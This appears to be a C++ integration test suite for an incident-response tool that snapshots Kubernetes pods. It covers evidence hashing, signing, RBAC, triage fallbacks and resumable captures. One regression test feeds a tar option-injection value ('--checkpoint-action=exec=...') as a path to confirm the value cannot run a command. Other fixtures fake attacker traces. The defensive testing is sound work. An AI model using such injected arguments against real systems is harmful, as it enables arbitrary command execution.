// snapshot against the real control plane and the test node agent: every
// item of a capture, hashes that match sha256sum, triage fallbacks in a
// minimal image, verification and signatures, RBAC, and a capture killed in
// the middle of a large item and completed by a re-run.
#include "ir/core/encoding.hpp"
#include "ir/core/process.hpp"
#include "support/skip.hpp"
#include "support/spawn.hpp"
#include "support/step_runner.hpp"

#include <csignal>
#include <filesystem>
#include <fstream>
#include <thread>

using namespace ir;
using namespace ir::test;
namespace fs = std::filesystem;

namespace {

const std::string incident = "INC-2026-11-26-201";

struct Scratch {
  fs::path dir;
  explicit Scratch(const std::string& name)
      : dir(fs::temp_directory_path() / (name + "-" + std::to_string(::getpid()))) {
    fs::remove_all(dir);
    fs::create_directories(dir);
  }
  ~Scratch() { fs::remove_all(dir); }
  std::string operator/(const std::string& name) const { return (dir / name).string(); }
};

std::string pod_yaml(const std::string& name, const std::string& rootfs,
                     const std::string& extra_annotations = {}, const std::string& env = {}) {
  return "apiVersion: v1\nkind: Pod\nmetadata:\n  name: " + name + "\n  labels: {app: " + name +
         "}\n  annotations: {irsteps.io/test-rootfs: \"" + rootfs +
         "\", irsteps.io/test-log: \"GET /shell.php 200\"" + extra_annotations +
         "}\nspec:\n  containers:\n  - name: app\n    image: registry.example/app:1\n" + env;
}

json::value manifest_of(const std::string& dir) {
  auto text = read_file(dir + "/manifest.json");
  REQUIRE(text);
  auto parsed = parse_json(*text, "manifest");
  REQUIRE(parsed);
  return *parsed;
}

const json::value* item(const json::value& manifest, const std::string& suffix) {
  for (const auto& entry : manifest.at("items").as_array()) {
    const std::string path = string_at(entry, {"path"});
    if (path.size() >= suffix.size() && path.compare(path.size() - suffix.size(), suffix.size(), suffix) == 0)
      return &entry;
  }
  return nullptr;
}

// A ServiceAccount "collector" whose Role reads what snapshot reads, plus
// `extra_rules`, and nothing else: how the tests take one right away.
std::string collector_rbac(const std::string& role, const std::string& extra_rules) {
  return R"(
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: collector}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: )" +
         role + R"(}
rules:
- {apiGroups: [""], resources: [pods, pods/log, events, serviceaccounts], verbs: [get, list]}
)" + extra_rules +
         R"(- {apiGroups: [networking.k8s.io], resources: [networkpolicies], verbs: [list]}
- {apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [list]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: collector}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: )" +
         role + R"(}
subjects: [{kind: ServiceAccount, name: collector}]
)";
}

}  // namespace

TEST_CASE("snapshot captures every item with hashes that sha256sum and tar agree with",
          "[integration][snapshot]") {
  TestNamespace ns("snapshot");
  Scratch rootfs("snap-rootfs");
  fs::create_directories(rootfs.dir / "etc");
  std::ofstream(rootfs.dir / "etc" / "passwd")
      << "root:x:0:0::/root:/bin/sh\nmallory:x:1337:1337::/tmp:/bin/sh\n";
  Cluster::get().apply_yaml(ns.name(),
                            pod_yaml("victim", rootfs.dir.string(), ", irsteps.io/test-restarts: \"1\""));
  await_running(ns.name(), "victim");
  Scratch out("snap-out");
  Scratch keys("snap-keys");
  auto key = run_process({"openssl", "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256",
                          "-out", keys / "key.pem"});
  REQUIRE(key);
  REQUIRE(run_process({"openssl", "pkey", "-in", keys / "key.pem", "-pubout", "-out", keys / "key.pub"}));
  auto other = run_process(
      {"sh", "-c",
       "openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 | openssl pkey -pubout -out " +
           keys / "other.pub"});
  REQUIRE(other);

  auto run =
      run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim",
                                   "--kubeconfig", Cluster::get().kubeconfig(), "--out", out.dir.string(),
                                   "--filesystem", "--paths", rootfs.dir.string(), "--modified-paths",
                                   rootfs.dir.string(), "--sign-key", keys / "key.pem"});
  REQUIRE_EXIT(run, 0);
  CHECK(run.output("failed") == "0");
  const auto manifest = manifest_of(out.dir.string());
  for (const char* name :
       {"pod.json", "describe.txt", "events.json", "networkpolicies.json", "serviceaccount.json", "node.json",
        "logs/app.log", "logs/app.previous.log", "triage/app/processes.txt", "triage/app/network.txt",
        "triage/app/modified-files.txt", "filesystem/app.tar"}) {
    const auto* entry = item(manifest, name);
    INFO(name);
    REQUIRE(entry != nullptr);
    CHECK(string_at(*entry, {"status"}) == "complete");
  }
  const auto* tar = item(manifest, "filesystem/app.tar");
  const std::string tar_path = out / string_at(*tar, {"path"});
  auto sum = run_process({"sha256sum", tar_path});
  REQUIRE(sum);
  CHECK(sum->out.substr(0, 64) == string_at(*tar, {"sha256"}));
  auto listing = run_process({"tar", "tf", tar_path});
  REQUIRE(listing);
  CHECK(listing->out.find("etc/passwd") != std::string::npos);
  CHECK(read_file(out / string_at(*item(manifest, "logs/app.log"), {"path"}))->find("GET /shell.php 200") !=
        std::string::npos);
  CHECK(read_file(out / string_at(*item(manifest, "triage/app/modified-files.txt"), {"path"}))
            ->find("etc/passwd") != std::string::npos);
  CHECK(read_file(out / string_at(*item(manifest, "describe.txt"), {"path"}))->find("Restarts:     1") !=
        std::string::npos);
  CHECK(run.output("manifest-sha256") == sha256_hex(*read_file(out / "manifest.json")));
  // The evidence's content never reaches the step's own output.
  CHECK(run.all_text().find("mallory") == std::string::npos);
  CHECK(run.all_text().find("GET /shell.php") == std::string::npos);

  auto verified = run_step_binary("snapshot", {"verify", out.dir.string(), "--key", keys / "key.pub"});
  REQUIRE_EXIT(verified, 0);
  CHECK(verified.output("manifest-sha256") == run.output("manifest-sha256"));
  auto wrong_key = run_step_binary("snapshot", {"verify", out.dir.string(), "--key", keys / "other.pub"});
  REQUIRE_EXIT(wrong_key, 3);
  {
    std::fstream tampered(tar_path, std::ios::in | std::ios::out | std::ios::binary);
    tampered.seekp(600);
    tampered.put('X');
  }
  auto changed = run_step_binary("snapshot", {"verify", out.dir.string()});
  REQUIRE_EXIT(changed, 3);
  CHECK(changed.err.find("filesystem/app.tar: content differs") != std::string::npos);
}

// Security review finding 21: each --paths entry lost its leading '/' and
// went to tar as is, so "/--checkpoint-action=exec=..." became an option of
// tar, which ran a command of the caller's choosing in the pod.
TEST_CASE("security review finding 21: a --paths entry that looks like a tar option stays a path",
          "[integration][snapshot]") {
  TestNamespace ns("snapopt");
  Scratch rootfs("snap-opt-rootfs");
  fs::create_directories(rootfs.dir / "etc");
  std::ofstream(rootfs.dir / "etc" / "hostname") << "victim\n";
  Cluster::get().apply_yaml(ns.name(), pod_yaml("victim", rootfs.dir.string()));
  await_running(ns.name(), "victim");
  Scratch out("snap-opt-out");
  const std::string marker = out / "tar-ran-a-command";
  const auto run = run_step_binary(
      "snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim", "--kubeconfig",
                   Cluster::get().kubeconfig(), "--out", out / "evidence", "--triage=false", "--filesystem",
                   "--paths", rootfs.dir.string(), "--paths", "/--checkpoint=1", "--paths",
                   "/--checkpoint-action=exec=touch " + marker});
  INFO("stderr: " << run.err);
  CHECK_FALSE(fs::exists(marker));
  const auto manifest = manifest_of(out / "evidence");
  const auto* tar = item(manifest, "filesystem/app.tar");
  REQUIRE(tar != nullptr);
  // tar looked for a file of that name, and said it found none.
  CHECK(string_at(*tar, {"reason"}).find("./--checkpoint=1") != std::string::npos);
}

TEST_CASE("triage falls back to /proc when the image has no ps or netstat, and says what it could not do",
          "[integration][snapshot]") {
  TestNamespace ns("snapmin");
  Scratch bin("snap-minbin");
  Scratch rootfs("snap-minroot");
  for (const char* tool : {"sh", "cat", "tr"}) {
    auto where = run_process({"sh", "-c", std::string("command -v ") + tool});
    REQUIRE(where);
    std::string target = where->out.substr(0, where->out.find('\n'));
    fs::create_symlink(target, bin.dir / tool);
  }
  Cluster::get().apply_yaml(ns.name(),
                            pod_yaml("minimal", rootfs.dir.string(), {},
                                     "    env: [{name: PATH, value: \"" + bin.dir.string() + "\"}]\n"));
  await_running(ns.name(), "minimal");
  Scratch out("snap-minout");
  auto run = run_step_binary(
      "snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--selector", "app=minimal",
                   "--kubeconfig", Cluster::get().kubeconfig(), "--out", out.dir.string()});
  REQUIRE_EXIT(run, 1);  // partial success: find is missing
  const auto manifest = manifest_of(out.dir.string());
  const auto* processes = item(manifest, "triage/app/processes.txt");
  REQUIRE(processes != nullptr);
  CHECK(string_at(*processes, {"status"}) == "complete");
  CHECK(string_at(*processes, {"source"}).find("sh -c") != std::string::npos);
  const auto* network = item(manifest, "triage/app/network.txt");
  REQUIRE(network != nullptr);
  CHECK(string_at(*network, {"status"}) == "complete");
  CHECK(read_file(out / string_at(*network, {"path"}))->find("/proc/net/tcp") != std::string::npos);
  const auto* modified = item(manifest, "triage/app/modified-files.txt");
  REQUIRE(modified != nullptr);
  CHECK(string_at(*modified, {"status"}) == "failed");
  CHECK(string_at(*modified, {"reason"}).find("none of these could run") != std::string::npos);
  CHECK(item(manifest, "pod.json") != nullptr);
}

// Issue 17: busybox has a netstat, but not its -p; the item used to be
// that failure, marked partial with no data, and /proc was never read.
TEST_CASE("triage falls back when a tool is there but fails, and names the failure when nothing answers",
          "[integration][snapshot]") {
  TestNamespace ns("snapbusy");
  Scratch bin("snap-busybin");
  Scratch rootfs("snap-busyroot");
  for (const char* tool : {"sh", "cat", "tr", "find"}) {
    auto where = run_process({"sh", "-c", std::string("command -v ") + tool});
    REQUIRE(where);
    fs::create_symlink(where->out.substr(0, where->out.find('\n')), bin.dir / tool);
  }
  // busybox's answers to the flags it lacks: usage on stderr, exit 1.
  for (const char* tool : {"netstat", "ps"}) {
    const fs::path script = bin.dir / tool;
    std::ofstream(script) << "#!/bin/sh\necho \"" << tool
                          << ": unrecognized option\" >&2\necho \"BusyBox usage\" >&2\nexit 1\n";
    fs::permissions(script, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec);
  }
  Cluster::get().apply_yaml(ns.name(),
                            pod_yaml("busybox", rootfs.dir.string(), {},
                                     "    env: [{name: PATH, value: \"" + bin.dir.string() + "\"}]\n"));
  await_running(ns.name(), "busybox");
  Scratch out("snap-busyout");
  auto run = run_step_binary(
      "snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--selector", "app=busybox",
                   "--kubeconfig", Cluster::get().kubeconfig(), "--out", out.dir.string()});
  REQUIRE_EXIT(run, 0);
  const auto manifest = manifest_of(out.dir.string());
  const auto* network = item(manifest, "triage/app/network.txt");
  REQUIRE(network != nullptr);
  CHECK(string_at(*network, {"status"}) == "complete");
  CHECK(string_at(*network, {"source"}).find("/proc/net/tcp") != std::string::npos);
  CHECK(read_file(out / string_at(*network, {"path"}))->find("== /proc/net/tcp") != std::string::npos);
  const auto* processes = item(manifest, "triage/app/processes.txt");
  REQUIRE(processes != nullptr);
  CHECK(string_at(*processes, {"status"}) == "complete");
  CHECK(string_at(*processes, {"source"}).find("sh -c") != std::string::npos);

  // Only failing tools and no shell: the failure names what each said.
  for (const char* tool : {"sh", "find"}) fs::remove(bin.dir / tool);
  Scratch again("snap-busyout2");
  auto bare = run_step_binary(
      "snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--selector", "app=busybox",
                   "--kubeconfig", Cluster::get().kubeconfig(), "--out", again.dir.string()});
  REQUIRE_EXIT(bare, 1);
  const auto bare_manifest = manifest_of(again.dir.string());
  const auto* failed = item(bare_manifest, "triage/app/network.txt");
  REQUIRE(failed != nullptr);
  CHECK(string_at(*failed, {"status"}) == "failed");
  CHECK(string_at(*failed, {"reason"}).find("netstat -tulpn: exit status 1: netstat: unrecognized option") !=
        std::string::npos);
}

TEST_CASE("without pods/exec the step exits 5 and still collects everything else",
          "[integration][snapshot][rbac]") {
  TestNamespace ns("snaprbac");
  Scratch rootfs("snap-rbacroot");
  auto& cluster = Cluster::get();
  cluster.apply_yaml(ns.name(), pod_yaml("victim", rootfs.dir.string()) + collector_rbac("no-exec", ""));
  await_running(ns.name(), "victim");
  TokenKubeconfig identity(service_account_token(ns.name(), "collector"), "collector-" + ns.name());
  Scratch out("snap-rbacout");
  auto run =
      run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim",
                                   "--kubeconfig", identity.path(), "--out", out.dir.string()});
  REQUIRE_EXIT(run, 5);
  CHECK(run.err.find("forbidden") != std::string::npos);
  const auto manifest = manifest_of(out.dir.string());
  for (const char* name : {"pod.json", "events.json", "logs/app.log"}) {
    INFO(name);
    REQUIRE(item(manifest, name) != nullptr);
    CHECK(string_at(*item(manifest, name), {"status"}) == "complete");
  }
  CHECK(string_at(*item(manifest, "triage/app/processes.txt"), {"reason"}).find("pods/exec") !=
        std::string::npos);
}

TEST_CASE("a capture killed during a large item lists only complete items, and a re-run completes it",
          "[integration][snapshot][kill]") {
  TestNamespace ns("snapkill");
  Scratch rootfs("snap-bigroot");
  {
    std::ofstream big(rootfs.dir / "disk.img", std::ios::binary);
    const std::string block(1 << 20, 'z');
    for (int i = 0; i < 300; ++i) big.write(block.data(), static_cast<std::streamsize>(block.size()));
  }
  Cluster::get().apply_yaml(ns.name(), pod_yaml("victim", rootfs.dir.string()));
  await_running(ns.name(), "victim");
  Scratch out("snap-killout");
  const std::vector<std::string> args{binary("snapshot"),
                                      "--incident-id",
                                      incident,
                                      "--namespace",
                                      ns.name(),
                                      "--pod",
                                      "victim",
                                      "--kubeconfig",
                                      Cluster::get().kubeconfig(),
                                      "--out",
                                      out.dir.string(),
                                      "--filesystem",
                                      "--paths",
                                      rootfs.dir.string(),
                                      "--triage=false"};
  {
    Spawned step(args);
    REQUIRE(step.wait_for_line(
        [](const std::string& line) { return line.find("logs/app.log") != std::string::npos; }));
    // Wait until the tar is on its way, then kill without warning.
    REQUIRE(eventually(
        [&] {
          for (const auto& entry : fs::recursive_directory_iterator(out.dir)) {
            if (entry.path().filename().string().find("app.tar.partial-") != std::string::npos &&
                fs::file_size(entry.path()) > (8u << 20))
              return true;
          }
          return false;
        },
        std::chrono::seconds(30)));
    step.freeze();
    ::kill(step.pid(), SIGKILL);
    step.finish();
  }
  auto manifest = manifest_of(out.dir.string());
  CHECK(item(manifest, "filesystem/app.tar") == nullptr);
  REQUIRE(item(manifest, "logs/app.log") != nullptr);
  auto verified = run_step_binary("snapshot", {"verify", out.dir.string()});
  REQUIRE_EXIT(verified, 0);

  std::vector<std::string> rerun(args.begin() + 1, args.end());
  auto completed = run_step_binary("snapshot", rerun);
  REQUIRE_EXIT(completed, 0);
  manifest = manifest_of(out.dir.string());
  REQUIRE(item(manifest, "filesystem/app.tar") != nullptr);
  CHECK(string_at(*item(manifest, "filesystem/app.tar"), {"status"}) == "complete");
  for (const auto& entry : fs::recursive_directory_iterator(out.dir)) {
    CHECK(entry.path().filename().string().find(".partial-") == std::string::npos);
  }
  auto reverified = run_step_binary("snapshot", {"verify", out.dir.string()});
  REQUIRE_EXIT(reverified, 0);
}

TEST_CASE("the shipped snapshot Role collects every item", "[integration][snapshot][rbac]") {
  auto& cluster = Cluster::get();
  cluster.apply_shipped_role("snapshot");
  TokenKubeconfig identity(service_account_token("irsteps", "irsteps-snapshot"), "irsteps-snapshot");
  TestNamespace ns("snaprole");
  Scratch rootfs("snap-roleroot");
  cluster.apply_yaml(ns.name(), deployment_yaml("web", 1));
  const auto pods = running_pods(ns.name(), "app=web", 1);
  Scratch out("snap-roleout");
  auto run = run_step_binary(
      "snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", pods[0], "--kubeconfig",
                   identity.path(), "--out", out.dir.string(), "--modified-paths", rootfs.dir.string()});
  REQUIRE_EXIT(run, 0);
  CHECK(run.output("failed") == "0");
}

TEST_CASE("checkpoints are taken where the kubelet can, and their absence is said, not fatal",
          "[integration][snapshot][checkpoint]") {
  TestNamespace ns("snapckpt");
  Scratch rootfs("snap-ckptroot");
  std::ofstream(rootfs.dir / "marker") << "x";
  auto& cluster = Cluster::get();
  cluster.apply_yaml(
      ns.name(), pod_yaml("able", rootfs.dir.string(), ", irsteps.io/test-checkpoint: \"true\"") + "---\n" +
                     pod_yaml("unable", rootfs.dir.string()));
  await_running(ns.name(), "able");
  await_running(ns.name(), "unable");
  Scratch out("snap-ckptout");
  auto run = run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod",
                                          "able", "--pod", "unable", "--kubeconfig", cluster.kubeconfig(),
                                          "--out", out.dir.string(), "--checkpoint", "--triage=false"});
  REQUIRE_EXIT(run, 0);
  const auto manifest = manifest_of(out.dir.string());
  const auto* taken = item(manifest, "able/checkpoint/app.json");
  REQUIRE(taken != nullptr);
  CHECK(string_at(*taken, {"status"}) == "complete");
  CHECK(read_file(out / string_at(*taken, {"path"}))->find("checkpoint-able_") != std::string::npos);
  CHECK(item(manifest, "unable/checkpoint/app.json") == nullptr);
  const auto& warnings = run.result.at("warnings").as_array();
  CHECK(std::any_of(warnings.begin(), warnings.end(), [](const json::value& w) {
    return w.as_string().find("cannot checkpoint container app of pod unable") != json::string::npos;
  }));
}

TEST_CASE("gzip, a size bound that marks the item partial, and an archive of the whole folder",
          "[integration][snapshot][archive]") {
  TestNamespace ns("snaparch");
  Scratch rootfs("snap-archroot");
  {
    std::ofstream data(rootfs.dir / "data.bin", std::ios::binary);
    for (int i = 0; i < 200000; ++i) data << i << '\n';
  }
  Cluster::get().apply_yaml(ns.name(), pod_yaml("victim", rootfs.dir.string()));
  await_running(ns.name(), "victim");
  Scratch out("snap-archout");
  const std::string archive = out / "evidence.tar.gz";
  auto run = run_step_binary(
      "snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim", "--kubeconfig",
                   Cluster::get().kubeconfig(), "--out", out / "evidence", "--triage=false", "--filesystem",
                   "--paths", rootfs.dir.string(), "--gzip", "--max-bytes", "100000", "--archive", archive});
  REQUIRE_EXIT(run, 0);
  const auto manifest = manifest_of(out / "evidence");
  const auto* tar = item(manifest, "filesystem/app.tar.gz");
  REQUIRE(tar != nullptr);
  CHECK(string_at(*tar, {"status"}) == "partial");
  CHECK(string_at(*tar, {"reason"}) == "stopped at --max-bytes 100000");
  auto tested = run_process({"gzip", "-t", out / ("evidence/" + string_at(*tar, {"path"}))});
  REQUIRE(tested);
  CHECK(tested->exit_status == 0);
  auto sum = run_process({"sha256sum", archive});
  REQUIRE(sum);
  CHECK(run.output("archive-sha256") == sum->out.substr(0, 64));
  auto listing = run_process({"tar", "tzf", archive});
  REQUIRE(listing);
  CHECK(listing->out.find("evidence/manifest.json") != std::string::npos);
  CHECK(listing->out.find("evidence/" + ns.name() + "/victim/filesystem/app.tar.gz") != std::string::npos);
}

TEST_CASE("an API server that dies while a log streams leaves the log marked partial, a re-run completes it",
          "[integration][snapshot][outage]") {
  auto& cluster = Cluster::get();
  if (cluster.state_dir().empty()) {
    skip_test("stopping the API server needs the local control plane, not IRSTEPS_TEST_KUBECONFIG");
    return;
  }
  TestNamespace ns("snaplog");
  Scratch rootfs("snap-logroot");
  cluster.apply_yaml(ns.name(), pod_yaml("chatty", rootfs.dir.string()));
  await_running(ns.name(), "chatty");
  // The node agent keeps the container's log in its state folder; make it large.
  const auto pod = cluster.client().get(k8s::resources::pods, ns.name(), "chatty");
  REQUIRE(pod);
  const fs::path log = fs::path(cluster.state_dir()) / "node-agent" / "pods" /
                       (ns.name() + "_chatty_" + string_at(*pod, {"metadata", "uid"})) / "app" / "0.log";
  REQUIRE(fs::exists(log));
  {
    std::ofstream out(log, std::ios::app);
    for (int i = 0; i < 400000; ++i)
      out << "2026-11-26T10:00:00.000000000Z stdout F request " << i << " from 203.0.113.7\n";
  }
  Scratch out("snap-logout");
  const std::vector<std::string> args{binary("snapshot"),
                                      "--incident-id",
                                      incident,
                                      "--namespace",
                                      ns.name(),
                                      "--pod",
                                      "chatty",
                                      "--kubeconfig",
                                      cluster.kubeconfig(),
                                      "--out",
                                      out.dir.string(),
                                      "--triage=false",
                                      "--max-attempts",
                                      "2"};
  {
    Spawned step(args, {{"IRSTEPS_TEST_STOP_AFTER_BYTES", "1000000"}});
    REQUIRE(eventually([&] { return step.stopped(); }, std::chrono::seconds(60)));
    cluster.control("kill-apiserver");
    step.resume();
    const auto finished = step.finish();
    INFO(finished.err);
    CHECK(finished.exit_status == 1);
  }
  cluster.control("start-apiserver");
  auto manifest = manifest_of(out.dir.string());
  const auto* cut = item(manifest, "logs/app.log");
  REQUIRE(cut != nullptr);
  CHECK(string_at(*cut, {"status"}) == "partial");
  CHECK_FALSE(string_at(*cut, {"reason"}).empty());

  std::vector<std::string> rerun(args.begin() + 1, args.end());
  auto completed = run_step_binary("snapshot", rerun);
  REQUIRE_EXIT(completed, 0);
  manifest = manifest_of(out.dir.string());
  CHECK(string_at(*item(manifest, "logs/app.log"), {"status"}) == "complete");
  CHECK(find(*item(manifest, "logs/app.log"), {"size"})->to_number<std::uint64_t>() > 20000000u);
}

namespace {

// A debug image pinned by digest; the test node agent runs no images, its
// ephemeral containers get the host's tools (tests/cluster/node-agent/ephemeral.go).
const std::string debug_image = "registry.example/tools/debug@sha256:" + std::string(64, 'd');

// A pod whose image has no shell (test-no-shell) and no tar (an empty PATH).
void apply_distroless(const std::string& ns, const std::string& name, const std::string& rootfs,
                      const std::string& empty_bin, const std::string& extra_yaml = {},
                      const std::string& container_yaml = {}) {
  Cluster::get().apply_yaml(
      ns, pod_yaml(name, rootfs, ", irsteps.io/test-no-shell: \"true\"",
                   "    env: [{name: PATH, value: \"" + empty_bin + "\"}]\n" + container_yaml) +
              extra_yaml);
  await_running(ns, name);
}

std::vector<std::string> ephemeral_containers(const std::string& ns, const std::string& pod) {
  auto got = Cluster::get().kubectl({"get", "pod", "-n", ns, pod, "-o",
                                     "jsonpath={range .spec.ephemeralContainers[*]}{.name}{\"\\n\"}{end}"});
  REQUIRE(got.exit_status == 0);
  std::vector<std::string> names;
  std::size_t start = 0;
  for (std::size_t end; (end = got.out.find('\n', start)) != std::string::npos; start = end + 1) {
    if (end > start) names.push_back(got.out.substr(start, end - start));
  }
  return names;
}

int count_actions(const StepRun& run, const std::string& verb) {
  int n = 0;
  if (const auto* actions = find(run.result, {"actions"}); actions != nullptr && actions->is_array()) {
    for (const auto& action : actions->get_array()) n += string_at(action, {"verb"}) == verb ? 1 : 0;
  }
  return n;
}

bool warned(const StepRun& run, const std::string& text) {
  if (const auto* warnings = find(run.result, {"warnings"}); warnings != nullptr && warnings->is_array()) {
    for (const auto& w : warnings->get_array()) {
      if (w.is_string() && std::string(w.get_string()).find(text) != std::string::npos) return true;
    }
  }
  return false;
}

}  // namespace

// Issue 17: a debug image that cannot be pulled used to keep the step waiting
// for the whole running timeout and then fail as a transient fault; and then
// on the kubelet's ImagePullBackOff, which kubelet 1.20 reports only after
// some 45 s of ErrImagePull.
TEST_CASE("snapshot --via-ephemeral says at once why a debug image that cannot be pulled gave no files",
          "[integration][snapshot][ephemeral]") {
  TestNamespace ns("snapnopull");
  Scratch rootfs("snap-nopullroot");
  Scratch empty_bin("snap-nopullbin");
  apply_distroless(ns.name(), "distroless", rootfs.dir.string(), empty_bin.dir.string());
  Scratch out("snap-nopullout");
  // The test node agent cannot pull from 127.0.0.1:1 (nothing listens there
  // and it pulls nothing), and reports what the kubelet reports.
  const std::string unpullable = "127.0.0.1:1/tools/debug@sha256:" + std::string(64, 'e');
  auto run =
      run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "distroless",
                                   "--kubeconfig", Cluster::get().kubeconfig(), "--triage=false", "--out",
                                   out.dir.string(), "--via-ephemeral", unpullable});
  REQUIRE_EXIT(run, 1);
  const auto manifest = manifest_of(out.dir.string());
  const auto* tar = item(manifest, "filesystem/app.tar");
  REQUIRE(tar != nullptr);
  CHECK(string_at(*tar, {"status"}) == "failed");
  const std::string reason = string_at(*tar, {"reason"});
  CHECK(reason.find("cannot be pulled") != std::string::npos);
  CHECK(reason.find("ErrImagePull: rpc error") != std::string::npos);
  CHECK(reason.find(unpullable) != std::string::npos);
  CHECK(item(manifest, "pod.json") != nullptr);
}

TEST_CASE("snapshot --via-ephemeral tars a container without shell or tar through a debug container, once",
          "[integration][snapshot][ephemeral]") {
  TestNamespace ns("snapeph");
  Scratch rootfs("snap-ephroot");
  Scratch empty_bin("snap-ephbin");
  fs::create_directories(rootfs.dir / "etc");
  std::ofstream(rootfs.dir / "etc" / "passwd")
      << "root:x:0:0::/root:/bin/sh\nmallory:x:1337:1337::/tmp:/bin/sh\n";
  apply_distroless(ns.name(), "distroless", rootfs.dir.string(), empty_bin.dir.string());
  const std::vector<std::string> args{
      "--incident-id", incident,     "--namespace",  ns.name(),
      "--pod",         "distroless", "--kubeconfig", Cluster::get().kubeconfig(),
      "--triage=false"};

  // Without the debug container the image cannot give its files.
  Scratch plain("snap-ephplain");
  auto without = args;
  for (const auto& extra : {std::string("--out"), plain.dir.string(), std::string("--filesystem")})
    without.push_back(extra);
  auto direct = run_step_binary("snapshot", without);
  REQUIRE_EXIT(direct, 1);
  CHECK(string_at(*item(manifest_of(plain.dir.string()), "filesystem/app.tar"), {"status"}) == "failed");

  Scratch out("snap-ephout");
  auto with = args;
  for (const auto& extra :
       {std::string("--out"), out.dir.string(), std::string("--via-ephemeral"), debug_image})
    with.push_back(extra);
  auto run = run_step_binary("snapshot", with);
  REQUIRE_EXIT(run, 0);
  CHECK(run.output("failed") == "0");
  const auto manifest = manifest_of(out.dir.string());
  const auto* tar = item(manifest, "filesystem/app.tar");
  REQUIRE(tar != nullptr);
  CHECK(string_at(*tar, {"status"}) == "complete");
  // The custody record says the files came through the debug container, and its image digest.
  const std::string source = string_at(*tar, {"source"});
  CHECK(source.find("ephemeral container irsteps-inc-2026-11-26-201-") != std::string::npos);
  CHECK(source.find(debug_image) != std::string::npos);
  CHECK(source.find("/proc/1/root") != std::string::npos);
  const std::string tar_path = out / string_at(*tar, {"path"});
  auto sum = run_process({"sha256sum", tar_path});
  REQUIRE(sum);
  CHECK(sum->out.substr(0, 64) == string_at(*tar, {"sha256"}));
  auto listing = run_process({"tar", "tf", tar_path});
  REQUIRE(listing);
  CHECK(listing->out.find("./etc/passwd") != std::string::npos);
  auto content = run_process({"tar", "xOf", tar_path, "./etc/passwd"});
  REQUIRE(content);
  CHECK(content->out.find("mallory:x:1337") != std::string::npos);
  CHECK(run.all_text().find("mallory") == std::string::npos);
  CHECK(count_actions(run, "add-ephemeral-container") == 1);
  CHECK(warned(run, "cannot be removed"));
  auto added = ephemeral_containers(ns.name(), "distroless");
  REQUIRE(added.size() == 1);
  CHECK(source.find(added[0]) != std::string::npos);

  // A re-run reuses the debug container: still one, nothing added.
  Scratch again("snap-ephagain");
  with[with.size() - 3] = again.dir.string();
  auto rerun = run_step_binary("snapshot", with);
  REQUIRE_EXIT(rerun, 0);
  CHECK(count_actions(rerun, "add-ephemeral-container") == 0);
  CHECK(warned(rerun, "cannot be removed"));
  CHECK(ephemeral_containers(ns.name(), "distroless") == added);
  const auto remanifest = manifest_of(again.dir.string());
  REQUIRE(item(remanifest, "filesystem/app.tar") != nullptr);
  CHECK(string_at(*item(remanifest, "filesystem/app.tar"), {"status"}) == "complete");
  CHECK(string_at(*item(remanifest, "filesystem/app.tar"), {"source"}).find("added earlier") !=
        std::string::npos);
  // Its own debug container is no evidence: no triage or tar of it.
  CHECK(item(remanifest, "filesystem/" + added[0] + ".tar") == nullptr);
  auto reverified = run_step_binary("snapshot", {"verify", again.dir.string()});
  REQUIRE_EXIT(reverified, 0);
}

TEST_CASE(
    "snapshot --via-ephemeral: a tag is exit 2 naming the parameter, --dry-run shows the container, adds "
    "none",
    "[integration][snapshot][ephemeral]") {
  TestNamespace ns("snapephdry");
  Scratch rootfs("snap-ephdryroot");
  Scratch empty_bin("snap-ephdrybin");
  apply_distroless(ns.name(), "distroless", rootfs.dir.string(), empty_bin.dir.string(), {},
                   "    securityContext: {runAsUser: 4242}\n");
  Scratch out("snap-ephdryout");
  const std::vector<std::string> args{
      "--incident-id", incident,        "--namespace",  ns.name(),
      "--pod",         "distroless",    "--kubeconfig", Cluster::get().kubeconfig(),
      "--out",         out.dir.string()};
  for (const std::string& bad : std::vector<std::string>{"busybox:1.36", "busybox", "busybox@sha256:abc",
                                                         "busybox@sha256:" + std::string(64, 'G')}) {
    auto with = args;
    with.push_back("--via-ephemeral");
    with.push_back(bad);
    auto refused = run_step_binary("snapshot", with);
    INFO(bad);
    REQUIRE_EXIT(refused, 2);
    CHECK(refused.err.find("via-ephemeral") != std::string::npos);
  }
  auto with = args;
  for (const std::string& extra : std::vector<std::string>{"--via-ephemeral", debug_image, "--dry-run"})
    with.push_back(extra);
  auto planned = run_step_binary("snapshot", with);
  REQUIRE_EXIT(planned, 0);
  CHECK(count_actions(planned, "add-ephemeral-container") == 1);
  bool shown = false;
  for (const auto& action : planned.result.at("actions").as_array()) {
    if (string_at(action, {"verb"}) != "add-ephemeral-container") continue;
    CHECK(find(action, {"dryRun"})->as_bool());
    const auto* container = find(action, {"request", "body", "spec", "ephemeralContainers"});
    REQUIRE(container != nullptr);
    CHECK(string_at(container->as_array().at(0), {"image"}) == debug_image);
    CHECK(string_at(container->as_array().at(0), {"targetContainerName"}) == "app");
    // As the target's user: the kernel lets it read /proc/<pid>/root.
    const auto* user = find(container->as_array().at(0), {"securityContext", "runAsUser"});
    REQUIRE(user != nullptr);
    CHECK(user->to_number<int>() == 4242);
    CHECK(string_at(action, {"request", "path"}).ends_with("/pods/distroless/ephemeralcontainers"));
    shown = true;
  }
  CHECK(shown);
  CHECK(ephemeral_containers(ns.name(), "distroless").empty());
  CHECK_FALSE(fs::exists(out.dir / "manifest.json"));
}

